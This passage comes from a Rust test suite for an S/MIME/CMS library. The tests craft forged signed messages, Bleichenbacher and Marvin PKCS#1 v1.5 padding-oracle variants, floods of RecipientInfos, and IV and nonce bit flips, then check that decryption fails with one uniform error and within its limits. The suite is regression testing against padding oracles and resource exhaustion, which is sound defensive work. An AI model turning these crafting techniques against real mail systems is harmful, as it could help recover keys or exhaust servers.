        &text[..header_end],
        content.trim_start_matches("\r\n")
    );
    let relabelled =
        signature.replacen("application/pkcs7-signature", "application/octet-stream", 1);
    let mixed = Parts {
        head: m.head.replacen("multipart/signed", "multipart/mixed", 1),
        delimiter: m.delimiter.clone(),
        parts: m.parts.clone(),
    };
    for (label, forged, not_signed) in [
        ("bare inner entity", bare.into_bytes(), true),
        ("multipart/mixed", mixed.join(&[content, signature]), true),
        ("signature part removed", m.join(&[content]), false),
        (
            "signature part relabelled",
            m.join(&[content, &relabelled]),
            false,
        ),
    ] {
        let err = failure(verify(&forged, &anchors()), label);
        if not_signed {
            assert!(matches!(err, Error::NotSigned), "{label}: {err:?}");
        } else {
            assert!(matches!(err, Error::InvalidMessage(_)), "{label}: {err:?}");
        }
    }
}

// ---------------------------------------------------------------------------
// Key transport.

/// The KTRIs of an encrypted message, decoded.
fn ktris(cms: &Cms) -> Vec<KeyTransRecipientInfo> {
    cms.recipients()
        .iter()
        .map(|ri| KeyTransRecipientInfo::from_der(&ri.to_der().unwrap()).unwrap())
        .collect()
}

fn names(ktri: &KeyTransRecipientInfo, id: &Identity) -> bool {
    let cert = x509_cert::Certificate::from_der(id.certificate().to_der()).unwrap();
    let tbs = &cert.tbs_certificate;
    matches!(&ktri.rid, RecipientIdentifier::IssuerAndSerialNumber(ias)
        if ias.serial_number == tbs.serial_number && ias.issuer == tbs.issuer)
}

/// A PKCS#1 v1.5 encryption block (RFC 8017 §7.2.1) of `k` bytes:
/// `head ‖ PS ‖ [0x00] ‖ key`, PS being `ps_len` random non-zero bytes
/// (extended to fill `k` when there is no separator).
fn pkcs1_block(k: usize, head: [u8; 2], ps_len: usize, separator: bool, key: &[u8]) -> Vec<u8> {
    let mut block = head.to_vec();
    let ps_len = if separator { ps_len } else { k - 2 - key.len() };
    let mut ps = vec![0u8; ps_len];
    openssl::rand::rand_bytes(&mut ps).unwrap();
    block.extend(ps.iter().map(|&b| b | 1));
    if separator {
        block.push(0);
    }
    block.extend_from_slice(key);
    assert_eq!(block.len(), k, "block length");
    block
}

/// Bleichenbacher's PKCS#1 v1.5 padding oracle (CRYPTO '98) and its
/// timing variant Marvin (Kario, ESORICS 2023): the attacker sends
/// EnvelopedData whose RSA encryptedKey decrypts to blocks with a wrong
/// first byte, a wrong block type, no zero separator, a separator before
/// byte 10, a well-padded key of the wrong length (15, 33 bytes), or a
/// well-padded random key of the right length, and watches which answer
/// comes back. Asserted: every variant is `Error::DecryptionFailed` with
/// the identical Display string (no error oracle). Control: the same
/// crafting with the real content key decrypts, so the variants fail
/// because of their padding and nothing else.
///
/// AES-256-GCM is used so a wrong content key fails deterministically
/// (with CBC it passes the padding check about once in 256 tries, which
/// `tampered_encrypted_key_is_the_same_uniform_error` tolerates). Timing
/// is not asserted: on this machine the RSA padding check is OpenSSL
/// 3.0's own (implicit rejection arrived in 3.2); OpenSSL's CMS layer
/// substitutes a random content key when key transport fails
/// (CVE-2019-1563), so the content decryption runs either way, and
/// src/envelope.rs has no branch on the padding result: every failure
/// after a recipient matched is mapped to the one error.
#[test]
fn bleichenbacher_marvin_padding_variants_are_one_error() {
    let bob = identity("bob");
    let ids = std::slice::from_ref(&bob);
    let sealed = encrypt(ENTITY, &[cert("bob")], &gcm()).unwrap();
    let private = PKey::private_key_from_pkcs8(&bob.private_key().to_pkcs8_der().unwrap())
        .unwrap()
        .rsa()
        .unwrap();
    let public = Rsa::from_public_components(
        private.n().to_owned().unwrap(),
        private.e().to_owned().unwrap(),
    )
    .unwrap();
    let k = public.size() as usize;
    let (_, der) = crate::common::split_base64(&sealed);
    let original = ktris(&Cms::parse(&der)).remove(0);
    let mut cek = vec![0u8; k];
    let n = private
        .private_decrypt(original.enc_key.as_bytes(), &mut cek, Padding::PKCS1)
        .unwrap();
    cek.truncate(n);
    assert_eq!(cek.len(), 32, "AES-256 content key");

    let with_block = |block: &[u8]| {
        let mut raw = vec![0u8; k];
        public
            .public_encrypt(block, &mut raw, Padding::NONE)
            .unwrap();
        edit(&sealed, |cms| {
            let mut ktri = original.clone();
            ktri.enc_key = OctetString::new(raw).unwrap();
            cms.set_recipients(&[reencode(&ktri)]);
        })
    };
    let fine = |key: &[u8]| pkcs1_block(k, [0, 2], k - 3 - key.len(), true, key);
    let control = decrypt(
        &with_block(&fine(&cek)),
        ids,
        &smime::DecryptOptions::default(),
    )
    .unwrap();
    assert_eq!(
        control.content, ENTITY,
        "control: crafted block with the real key"
    );

    let mut random_key = [0u8; 32];
    openssl::rand::rand_bytes(&mut random_key).unwrap();
    let variants: [(&str, Vec<u8>); 7] = [
        (
            "first byte 0x01",
            pkcs1_block(k, [1, 2], k - 35, true, &cek),
        ),
        ("block type 1", pkcs1_block(k, [0, 1], k - 35, true, &cek)),
        ("no zero separator", pkcs1_block(k, [0, 2], 0, false, &[])),
        (
            "separator at byte 7",
            pkcs1_block(k, [0, 2], 5, true, &vec![7; k - 8]),
        ),
        ("15-byte key", fine(&cek[..15])),
        ("33-byte key", fine(&[&cek[..], &[0x33]].concat())),
        ("random 32-byte key", fine(&random_key)),
    ];
    let mut texts = Vec::new();
    for (label, block) in variants {
        let err = failure(
            decrypt(&with_block(&block), ids, &smime::DecryptOptions::default()),
            label,
        );
        assert!(matches!(err, Error::DecryptionFailed), "{label}: {err:?}");
        texts.push(err.to_string());
    }
    assert!(texts.iter().all(|t| *t == texts[0]), "{texts:?}");
}

/// Recipient flooding (CPU exhaustion; the "thousands of RecipientInfos"
/// case of the project's threat model, cf. CVE-2023-0217-style
/// unbounded-work findings in CMS parsers): 5000 KeyTransRecipientInfos,
/// none for us. Asserted, without any timing: the message is refused with
/// `InvalidCms` naming `MAX_RECIPIENTS`, and that refusal comes before any
/// RSA operation — the same flood with bob's own, correctly named
/// recipient appended is refused identically instead of decrypting. And
/// trial decryption (for wrongly named recipients) is bounded too: with
/// bob's KTRI mislabelled as alice's, 8 KTRIs decrypt by trial, 9 are
/// refused with `LimitExceeded` (`max_trial_keys`) without trying. The
/// elapsed time is printed only.
#[test]
fn thousands_of_recipient_infos_bounded_work() {
    let (alice, bob) = (identity("alice"), identity("bob"));
    let ids = std::slice::from_ref(&bob);
    let sealed = encrypt(ENTITY, &[cert("bob"), cert("alice")], &gcm()).unwrap();
    let (_, der) = crate::common::split_base64(&sealed);
    let all = ktris(&Cms::parse(&der));
    let for_bob = all.iter().find(|r| names(r, &bob)).unwrap().clone();
    let for_alice = all.iter().find(|r| names(r, &alice)).unwrap().clone();
    let mut mislabelled = for_bob.clone();
    mislabelled.rid = for_alice.rid.clone();
    let with = |ris: Vec<&KeyTransRecipientInfo>| {
        let ris: Vec<Any> = ris.into_iter().map(reencode).collect();
        edit(&sealed, |cms| cms.set_recipients(&ris))
    };

    let flood = 5000;
    assert!(flood > smime::Limits::default().max_recipients);
    let mut none_for_us = vec![&for_alice; flood];
    let mut ours_last = none_for_us.clone();
    ours_last.push(&for_bob);
    assert!(
        decrypt(
            &with(vec![&for_alice, &for_bob]),
            ids,
            &smime::DecryptOptions::default()
        )
        .is_ok(),
        "control"
    );
    for (label, ris) in [
        ("none for us", std::mem::take(&mut none_for_us)),
        ("ours last", ours_last),
    ] {
        let message = with(ris);
        let started = Instant::now();
        let err = failure(
            decrypt(&message, ids, &smime::DecryptOptions::default()),
            label,
        );
        eprintln!(
            "{flood} RecipientInfos ({label}, {} KiB): {err:?} after {:?}",
            message.len() / 1024,
            started.elapsed()
        );
        assert!(
            matches!(
                &err,
                Error::LimitExceeded {
                    limit: "max_recipients",
                    max: 256
                }
            ),
            "{label}: {err:?}"
        );
    }

    // Trial decryption: off by default; when asked for, found within
    // `max_trial_keys` (identities × key-transport recipients), refused
    // before any private-key operation beyond it.
    let mut ris = vec![&mislabelled];
    ris.extend(vec![&for_alice; 7]);
    let err = failure(
        decrypt(&with(ris.clone()), ids, &smime::DecryptOptions::default()),
        "trial off",
    );
    assert!(matches!(err, Error::NotForRecipient), "{err:?}");
    let mut limits = smime::Limits::default();
    limits.max_trial_keys = 8;
    let trial = smime::DecryptOptions::default()
        .trial_decryption(true)
        .limits(limits);
    let found = decrypt(&with(ris.clone()), ids, &trial).unwrap();
    assert_eq!(
        found.content, ENTITY,
        "8 recipients: trial decryption finds ours"
    );
    ris.push(&for_alice);
    let err = failure(decrypt(&with(ris), ids, &trial), "9 recipients");
    assert!(
        matches!(
            err,
            Error::LimitExceeded {
                limit: "max_trial_keys",
                max: 8
            }
        ),
        "{err:?}"
    );
}

/// `sealed` (one recipient) with its KeyTransRecipientInfo naming
/// `other` instead: what a client writing wrong identifiers sends.
pub fn mislabelled(sealed: &[u8], other: &Identity) -> Vec<u8> {
    let (_, der) = crate::common::split_base64(sealed);
    let cms = Cms::parse(&der);
    let mut ktri = ktris(&cms).remove(0);
    let cert = x509_cert::Certificate::from_der(other.certificate().to_der()).unwrap();
    ktri.rid = RecipientIdentifier::IssuerAndSerialNumber(cms::cert::IssuerAndSerialNumber {
        issuer: cert.tbs_certificate.issuer.clone(),
        serial_number: cert.tbs_certificate.serial_number.clone(),
    });
    edit(sealed, |cms| cms.set_recipients(&[reencode(&ktri)]))
}

/// Trial decryption is off by default: a 30-key mailbox holding the key
/// that could open the message by trial (bob's, under a RecipientInfo
/// naming mallory) gets the one typed error, without any private-key
/// operation (with trial decryption the same mailbox opens it, so the
/// error is the refusal to try, not a failed try).
#[test]
fn trial_decryption_is_off_by_default_for_a_full_mailbox() {
    let sealed = encrypt(ENTITY, &[cert("bob")], &EncryptOptions::default()).unwrap();
    let message = mislabelled(&sealed, &identity("mallory"));
    let rsa = ["alice", "erin", "frank", "henry"];
    let mut mailbox: Vec<Identity> = (0..29).map(|i| identity(rsa[i % rsa.len()])).collect();
    mailbox.push(identity("bob"));
    assert_eq!(mailbox.len(), 30);
    let err = failure(
        decrypt(&message, &mailbox, &smime::DecryptOptions::default()),
        "trial off",
    );
    assert!(matches!(err, Error::NotForRecipient), "{err:?}");
    let err = failure(
        smime::decrypt_stream(
            &message[..],
            std::io::sink(),
            &mailbox,
            &smime::DecryptOptions::default(),
        ),
        "trial off, streaming",
    );
    assert!(matches!(err, Error::NotForRecipient), "{err:?}");
    let trial = smime::DecryptOptions::default().trial_decryption(true);
    // The 29 others are tried first (each wrong key passes CBC padding
    // about once in 256, and is then caught by the second decryption).
    let opened = decrypt(&message, &mailbox, &trial).unwrap();
    assert!(!opened.authenticated);
    assert_eq!(opened.content, ENTITY);
    assert_eq!(opened.recipient, cert("bob").fingerprint());
    let bob_only = decrypt(&message, &[identity("bob")], &trial).unwrap();
    assert_eq!(bob_only.content, ENTITY);
    assert_eq!(bob_only.recipient, cert("bob").fingerprint());
}

/// Issue 15 item 7: trial decryption used to keep a result only when the
/// plaintext looked like MIME, so flipping IV bits (which flips the same
/// bits of the first plaintext block) turned success into "not encrypted
/// for this mailbox": an oracle on the first block. Now padding or tag
/// alone decide, and the outcome is the same for every IV bit.
#[test]
fn trial_decryption_outcome_does_not_depend_on_iv_bits() {
    let trial = smime::DecryptOptions::default().trial_decryption(true);
    let bob = [identity("bob")];
    // Ours (CBC): every variant decrypts, to the same tail.
    let sealed = encrypt(ENTITY, &[cert("bob")], &EncryptOptions::default()).unwrap();
    let message = mislabelled(&sealed, &identity("mallory"));
    for bit in 0..128 {
        let flipped = with_cbc(&message, |bytes| bytes[bit / 8] ^= 1 << (bit % 8));
        let opened =
            decrypt(&flipped, &bob, &trial).unwrap_or_else(|e| panic!("IV bit {bit}: {e:?}"));
        assert_eq!(opened.content[16..], ENTITY[16..], "IV bit {bit}");
        assert_ne!(opened.content[..16], ENTITY[..16], "IV bit {bit}");
    }
    // Not ours (AES-GCM, erin's): every nonce variant is the same error.
    let sealed = encrypt(ENTITY, &[cert("erin")], &gcm()).unwrap();
    let message = mislabelled(&sealed, &identity("mallory"));
    let ids = [identity("alice"), identity("bob")];
    for bit in 0..96 {
        let flipped = edit(&message, |cms| {
            let mut eci = cms.eci();
            let params = eci
                .content_enc_alg
                .parameters
                .as_ref()
                .unwrap()
                .to_der()
                .unwrap();
            let mut params = params.clone();
            // GCMParameters ::= SEQUENCE { aes-nonce OCTET STRING (12), .. }
            assert_eq!(&params[2..4], &[0x04, 12]);
            params[4 + bit / 8] ^= 1 << (bit % 8);
            eci.content_enc_alg.parameters = Some(Any::from_der(&params).unwrap());
            cms.set_eci(&eci);
        });
        let err = failure(decrypt(&flipped, &ids, &trial), "nonce variant");
        assert!(
            matches!(err, Error::NotForRecipient),
            "nonce bit {bit}: {err:?}"
        );
    }
}

/// With trial decryption on, a stranger's key meets OpenSSL's MMA
/// countermeasure (a random content key) and passes CBC padding about
/// once in 256 tries; the second decryption that must agree makes such a
/// message `NotForRecipient` every time, never `Ok` with garbage.
#[test]
fn trial_decryption_never_returns_a_strangers_garbage() {
    let trial = smime::DecryptOptions::default().trial_decryption(true);
    let alice = [identity("alice")];
    let mut garbage = 0;
    for oaep in [false, true] {
        let options = if oaep {
            EncryptOptions::default().rsa_oaep()
        } else {
            EncryptOptions::default()
        };
        for _ in 0..300 {
            let sealed = encrypt(ENTITY, &[cert("bob")], &options).unwrap();
            let message = mislabelled(&sealed, &identity("mallory"));
            match decrypt(&message, &alice, &trial) {
                Err(Error::NotForRecipient) => {}
                Err(e) => panic!("oaep={oaep}: {e:?}"),
                Ok(_) => garbage += 1,
            }
        }
    }
    assert_eq!(garbage, 0, "garbage accepted {garbage} times in 600");
}

/// Review finding 2: trial decryption used OpenSSL's no-certificate path,
/// which decrypts EVERY key-transport RecipientInfo and keeps the last
/// whose PKCS#1 padding is valid: with our RecipientInfo first, a second
/// one made the outcome depend on whether its ciphertext is
/// PKCS#1-conformant (a Bleichenbacher oracle). Each (identity,
/// RecipientInfo) pair is now tried alone: the outcome is the same whether
/// the second RecipientInfo is conformant under our key or not.
#[test]
fn trial_outcome_does_not_depend_on_another_recipient_info() {
    let trial = smime::DecryptOptions::default().trial_decryption(true);
    let bob = [identity("bob")];
    let seal = || {
        mislabelled(
            &encrypt(ENTITY, &[cert("bob")], &EncryptOptions::default()).unwrap(),
            &identity("mallory"),
        )
    };
    let (a, b) = (seal(), seal());
    let (_, der_a) = crate::common::split_base64(&a);
    let (_, der_b) = crate::common::split_base64(&b);
    let ours = ktris(&Cms::parse(&der_a)).remove(0);
    // Conformant under bob's key (another message's key transport to him),
    // and the same with one byte flipped (not conformant).
    let conformant = ktris(&Cms::parse(&der_b)).remove(0);
    let mut not_conformant = conformant.clone();
    let mut bytes = not_conformant.enc_key.as_bytes().to_vec();
    bytes[5] ^= 0x40;
    not_conformant.enc_key = OctetString::new(bytes).unwrap();
    let with_second = |q: &KeyTransRecipientInfo| {
        edit(&a, |cms| {
            cms.set_recipients(&[reencode(&ours), reencode(q)])
        })
    };
    for _ in 0..8 {
        let r1 = decrypt(&with_second(&not_conformant), &bob, &trial).map(|d| d.content);
        let r2 = decrypt(&with_second(&conformant), &bob, &trial).map(|d| d.content);
        assert_eq!(r1.as_deref().ok(), Some(ENTITY), "not conformant: {r1:?}");
        assert_eq!(r2.as_deref().ok(), Some(ENTITY), "conformant: {r2:?}");
    }
}
